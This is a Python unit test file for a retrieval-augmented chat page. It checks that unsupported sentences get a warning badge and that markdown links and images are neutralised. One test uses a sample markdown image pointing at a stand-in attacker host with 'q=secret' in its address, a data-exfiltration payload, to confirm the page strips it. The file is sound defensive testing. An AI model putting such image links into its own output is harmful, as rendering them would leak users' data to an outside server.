"""Display pieces of pages/widgets.py that shape text: the answer with its claim badges."""

from __future__ import annotations

from pages.widgets import marked_answer
from rag.answers import Answer, AnswerKind
from rag.chat.claims import check_claims
from tests.unit.test_results import scored_chunk


def answer(text: str) -> Answer:
    sources = (scored_chunk(text="Revenue rose to $1,600 million in 2023."),)
    return Answer(
        "q", "q", text, AnswerKind.GENERATED, sources=sources, sentences=check_claims(text, sources)
    )


def test_an_unsupported_sentence_gets_its_badge_after_it():
    marked = marked_answer(answer("Revenue rose to $1,600 million in 2023 [1]. It fell 9% [1]."))
    assert marked.endswith("It fell 9% [1]. :orange-badge[⚠ unsupported]")
    assert marked.startswith("Revenue rose to $1,600 million in 2023 [1]. It")


def test_a_link_or_image_cut_by_a_sentence_end_is_still_neutralised():
    text = "Revenue rose 40 percent in 2023 [1]. ![Costs fell 7 percent. See](https://evil.example/x.png?q=secret)"
    marked = marked_answer(answer(text))
    assert "](https://evil.example" not in marked and "![" not in marked
    assert ":orange-badge[⚠ unsupported]" in marked


def test_an_answer_with_nothing_flagged_is_the_plain_safe_markdown():
    plain = answer("Revenue rose to $1,600 million in 2023 [1].")
    assert marked_answer(plain) == plain.markdown()
